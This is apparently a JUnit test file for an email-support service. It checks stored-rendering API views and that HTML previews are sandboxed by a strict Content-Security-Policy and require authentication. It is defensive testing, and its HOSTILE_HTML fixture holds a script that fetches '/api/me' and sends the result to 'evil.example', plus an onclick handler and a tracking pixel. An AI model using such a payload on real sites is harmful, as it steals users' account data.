package io.mailroom.support;

import com.fasterxml.jackson.databind.JsonNode;
import io.mailroom.outbox.EnqueuedMessage;
import io.mailroom.testing.PostgresExtension;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import java.net.http.HttpResponse;
import java.util.Locale;
import java.util.Map;

import static io.mailroom.db.jooq.Tables.EMAIL_RENDERING;
import static io.mailroom.support.TestMail.Result.SENT;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * "Support sees what the customer got": the stored rendering in the API's email views, and the
 * HTML part behind the preview routes of the API and the console, sandboxed and authenticated.
 */
class RenderingViewTest {

    @RegisterExtension
    static final PostgresExtension pg = new PostgresExtension();

    static final String VIEWER = "vic-viewer-token-0123456789";

    /** The preview's policy, spelled out: a change to it must be a deliberate change to this test. */
    static final String PREVIEW_CSP = "default-src 'none'; style-src 'unsafe-inline'; img-src data:; sandbox; frame-ancestors 'self'";

    static final String HOSTILE_HTML = "<html><head><style>p { color: red; }</style></head><body>"
            + "<script>fetch('/api/me').then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t)</script>"
            + "<p onclick=\"alert(1)\">Xin chào &amp; cảm ơn, <b>Ann</b></p><img src=\"https://tracker.example/p.gif\"></body></html>";

    private static SupportServer server;
    private static Http http;

    @BeforeAll
    static void start() {
        server = SupportServer.start(pg.dataSource(), SupportConfig.builder().host("127.0.0.1").port(0)
                .tokens("vic:viewer:" + VIEWER).build());
        http = new Http(server.baseUri());
    }

    @AfterAll
    static void stop() {
        server.stop();
    }

    @BeforeEach
    void clean() {
        TestMail.truncate(pg.dsl());
    }

    /** Order 102: a confirmation sent with a rendering, a shipping email sent without one. */
    private static void sentOrder102() {
        EnqueuedMessage m = TestMail.confirmation(pg.dsl(), 102);
        TestMail.shipped(pg.dsl(), 102);
        TestMail.rendering(pg.dsl(), m, 1, "order_confirmation", "vi", "Đơn hàng #102 của bạn đã được xác nhận",
                "Cảm ơn bạn, Ann!\n<not html> & plain\n", HOSTILE_HTML);
        TestMail.dispatchAll(pg.dataSource(), SENT);
    }

    private static HttpResponse<String> api(String path) {
        return http.get(path, Http.bearer(VIEWER));
    }

    @Test
    void theApiShowsTemplateVersionLocaleSubjectTextAndThePreviewUrl() {
        sentOrder102();

        JsonNode one = Http.json(api("/api/emails/email-order-102"));
        JsonNode r = one.get("rendering");
        assertThat(r.get("template").asText()).isEqualTo("order_confirmation");
        assertThat(r.get("version").asText()).isEqualTo("order_confirmation@0123456789abcdef");
        assertThat(r.get("locale").asText()).isEqualTo("vi");
        assertThat(r.get("subject").asText()).isEqualTo("Đơn hàng #102 của bạn đã được xác nhận");
        assertThat(r.get("text").asText()).isEqualTo("Cảm ơn bạn, Ann!\n<not html> & plain\n");
        assertThat(r.get("hasHtml").asBoolean()).isTrue();
        assertThat(r.get("attempt").asInt()).isEqualTo(1);
        assertThat(r.get("renderedAt").asText()).endsWith("Z");
        assertThat(r.get("previewUrl").asText()).isEqualTo("/api/emails/email-order-102/preview");
        assertThat(r.has("html")).as("the HTML part only behind the sandboxed preview").isFalse();
        assertThat(one.toString()).doesNotContain("<script>");

        JsonNode order = Http.json(api("/api/orders/102/emails"));
        assertThat(order.get("emails").get(0).get("rendering").get("subject").asText()).startsWith("Đơn hàng #102");
        assertThat(order.get("emails").get(1).has("rendering")).as("sent without a stored rendering").isFalse();

        JsonNode list = Http.json(api("/api/emails?status=sent&since=1h"));
        assertThat(list.get("emails")).hasSize(2).allSatisfy(e -> assertThat(e.has("rendering")).isFalse());
    }

    @Test
    void thePreviewServesTheStoredHtmlVerbatimUnderTheSandboxPolicy_onTheApiAndTheConsole() {
        sentOrder102();
        String session = signIn();

        HttpResponse<String> viaApi = api("/api/emails/email-order-102/preview");
        HttpResponse<String> viaConsole = http.get("/console/emails/email-order-102/preview", "Cookie", "mailroom_session=" + session);
        for (HttpResponse<String> p : java.util.List.of(viaApi, viaConsole)) {
            assertThat(p.statusCode()).as(p.body()).isEqualTo(200);
            assertThat(p.body()).as("nothing escaped or removed: the sandbox makes the script inert").isEqualTo(HOSTILE_HTML);
            assertThat(p.headers().allValues("Content-Security-Policy")).containsExactly(PREVIEW_CSP);
            assertThat(PREVIEW_CSP).contains("sandbox").doesNotContain("allow-");
            assertThat(p.headers().allValues("X-Content-Type-Options")).containsExactly("nosniff");
            assertThat(p.headers().allValues("Cache-Control")).containsExactly("no-store");
            assertThat(p.headers().allValues("X-Frame-Options")).containsExactly("SAMEORIGIN");
            assertThat(p.headers().allValues("Content-Type")).singleElement()
                    .satisfies(t -> assertThat(t.replace(" ", "").toLowerCase(Locale.ROOT)).isEqualTo("text/html;charset=utf-8"));
        }

        // the console's own pages may frame same-origin routes, and may not be framed themselves
        HttpResponse<String> page = http.get("/console/emails/email-order-102", "Cookie", "mailroom_session=" + session);
        assertThat(page.statusCode()).isEqualTo(200);
        assertThat(page.headers().firstValue("Content-Security-Policy").orElseThrow())
                .contains("frame-src 'self'").contains("frame-ancestors 'none'").contains("script-src 'self'");
        assertThat(page.headers().firstValue("X-Frame-Options")).contains("DENY");
        assertThat(page.headers().firstValue("Content-Type").orElseThrow().replace(" ", "").toLowerCase(Locale.ROOT))
                .isEqualTo("text/html;charset=utf-8");
        // the page shows what the customer got: the facts and the text escaped, the HTML only in a fully sandboxed frame
        assertThat(page.body()).contains("What the customer got")
                .contains("<code>order_confirmation</code> · vi · <code class=\"version\">order_confirmation@0123456789abcdef</code>")
                .contains("<pre class=\"email-text\">Cảm ơn bạn, Ann!\n&lt;not html&gt; &amp; plain\n</pre>")
                .contains("<iframe class=\"email-preview\" sandbox src=\"/console/emails/email-order-102/preview\"")
                .doesNotContain("<script>alert");
    }

    @Test
    void thePreviewNeedsCredentials() {
        sentOrder102();

        HttpResponse<String> noToken = http.get("/api/emails/email-order-102/preview");
        assertThat(noToken.statusCode()).isEqualTo(401);
        assertThat(noToken.headers().firstValue("WWW-Authenticate")).isPresent();
        HttpResponse<String> badToken = http.get("/api/emails/email-order-102/preview", Http.bearer("not-a-token-at-all-0000"));
        assertThat(badToken.statusCode()).isEqualTo(401);
        HttpResponse<String> noSession = http.get("/console/emails/email-order-102/preview");
        assertThat(noSession.statusCode()).as("the console sends a GET without a session to sign in").isEqualTo(303);
        assertThat(noSession.headers().firstValue("Location").orElseThrow()).startsWith("/console/login");
        HttpResponse<String> staleSession = http.get("/console/emails/email-order-102/preview", "Cookie", "mailroom_session=forged");
        assertThat(staleSession.statusCode()).isEqualTo(303);
        // a console session is no credential for the API
        HttpResponse<String> cookieOnApi = http.get("/api/emails/email-order-102/preview", "Cookie", "mailroom_session=" + signIn());
        assertThat(cookieOnApi.statusCode()).isEqualTo(401);
        for (HttpResponse<String> r : java.util.List.of(noToken, badToken, noSession, staleSession, cookieOnApi)) {
            assertThat(r.body()).doesNotContain("Xin chào").doesNotContain("<script>fetch");
            assertThat(r.headers().firstValue("Content-Security-Policy").orElseThrow()).isNotEqualTo(PREVIEW_CSP);
        }
    }

    @Test
    void anEmailWithoutAStoredRenderingHasNoPreview() {
        sentOrder102();
        String session = signIn();

        assertThat(api("/api/emails/email-order-102-shipped/preview").statusCode()).isEqualTo(404);
        assertThat(api("/api/emails/email-order-999/preview").statusCode()).isEqualTo(404);
        assertThat(http.get("/console/emails/email-order-102-shipped/preview", "Cookie", "mailroom_session=" + session)
                .statusCode()).isEqualTo(404);
        HttpResponse<String> bad = api("/api/emails/" + ConsolePages.url("no such key") + "/preview");
        assertThat(bad.statusCode()).isEqualTo(400);
        assertThat(Http.json(bad).get("parameter").asText()).isEqualTo("key");

        // a rendering whose message is not the effect's (a key used again after retention) is not this email's
        pg.dsl().update(EMAIL_RENDERING).set(EMAIL_RENDERING.MESSAGE_ID, 999_999L).execute();
        assertThat(api("/api/emails/email-order-102/preview").statusCode()).isEqualTo(404);
        assertThat(Http.json(api("/api/emails/email-order-102")).has("rendering")).isFalse();
    }

    @Test
    void aCustomEmailWithoutHtmlHasNoPreviewUrl() {
        EnqueuedMessage m = TestMail.confirmation(pg.dsl(), 7);
        TestMail.rendering(pg.dsl(), m, 2, null, null, "Plain", "plain text only", null);
        EmailView e = new SupportService(pg.dataSource()).email("email-order-7").orElseThrow();

        assertThat(e.rendering().template()).isNull();
        assertThat(e.rendering().templateName()).isEqualTo(Rendering.CUSTOM);
        assertThat(e.rendering().hasHtml()).isFalse();
        assertThat(e.rendering().previewUrl()).isNull();
        assertThat(e.consolePreviewUrl()).isNull();
        assertThat(api("/api/emails/email-order-7/preview").statusCode()).isEqualTo(404);

        TestMail.rendering(pg.dsl(), TestMail.shipped(pg.dsl(), 7), 1, "order_shipped", "en", "S", "t", "<p>h</p>");
        assertThat(new SupportService(pg.dataSource()).email("email-order-7-shipped").orElseThrow().consolePreviewUrl())
                .isEqualTo("/console/emails/email-order-7-shipped/preview");
    }

    private static String signIn() {
        HttpResponse<String> form = http.get("/console/login");
        String loginCookie = Http.cookies(form).get("mailroom_login");
        HttpResponse<String> r = http.postForm("/console/login",
                Map.of("csrf", Http.hidden(form.body(), "csrf"), "token", VIEWER, "next", "/console/about"),
                "Cookie", "mailroom_login=" + loginCookie, "Origin", http.origin());
        assertThat(r.statusCode()).as(r.body()).isEqualTo(303);
        return Http.cookies(r).get("mailroom_session");
    }
}
